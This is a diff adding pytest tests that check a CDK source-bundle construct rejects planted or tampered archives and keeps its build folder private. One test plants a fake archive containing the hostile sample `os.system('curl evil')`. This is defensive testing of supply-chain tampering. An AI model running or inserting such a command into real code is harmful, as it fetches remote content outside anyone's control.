@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import gzip
+import hashlib
 import io
 import os
 import tarfile
@@ -202,3 +203,48 @@ def test_staleness_reads_a_vendored_bundle_as_the_programs_folder() -> None:
              "wheels/requirements.txt": b"a==1\n"}
     assert source_view(files) == {"train.py": b"x", "requirements.txt": b"a==1\n"}
     assert source_view({"train.py": b"x"}) == {"train.py": b"x"}
+
+
+# -- A build folder no one else can plant an archive in --------------------------------------------
+
+def test_a_planted_archive_at_the_bundle_path_is_not_shipped(tmp_path: Path) -> None:
+    """The archive's file is named by its SHA-256; a file already at that path with other bytes
+    (planted, or half-written) is replaced, and the asset CDK stages is the real archive."""
+    source = _tree(tmp_path / "src")
+    expected = build_source_tarball(source)
+    digest = hashlib.sha256(expected).hexdigest()
+    build_dir = tmp_path / "bundles"
+    build_dir.mkdir()
+    planted = build_dir / f"sourcedir-{digest}.tar.gz"
+    planted.write_bytes(b"import os; os.system('curl evil')")
+    app = cdk.App(outdir=str(tmp_path / "cdk.out"))
+    bundle = SourceBundle(cdk.Stack(app, "Bundle"), "Source", source_dir=source, build_dir=build_dir)
+    assert bundle.archive_sha256 == digest
+    assert planted.read_bytes() == expected
+    app.synth()
+    staged = [path for path in (tmp_path / "cdk.out").glob("asset.*") if path.is_file()]
+    assert [path.read_bytes() for path in staged] == [expected]
+
+
+def test_a_planted_gzip_in_the_compression_cache_is_not_returned(tmp_path: Path) -> None:
+    source = _tree(tmp_path / "src")
+    first = build_source_tarball(source, gzip_cache=tmp_path / "by-tar")
+    (cached,) = (tmp_path / "by-tar").glob("tar-*.tar.gz")
+    cached.write_bytes(gzip.compress(b"not the tar"))
+    assert build_source_tarball(source, gzip_cache=tmp_path / "by-tar") == first
+    assert cached.read_bytes() == first
+
+
+def test_the_default_build_folder_is_this_users_only(tmp_path: Path) -> None:
+    from infra.constructs.source_bundle import _private_dir
+
+    mine = _private_dir(tmp_path / "mine")
+    assert mine.stat().st_mode & 0o777 == 0o700
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o777)
+    with pytest.raises(ValueError, match="is not a folder of this user's only"):
+        _private_dir(shared)
+    (tmp_path / "link").symlink_to(mine)
+    with pytest.raises(ValueError, match="is not a folder of this user's only"):
+        _private_dir(tmp_path / "link")
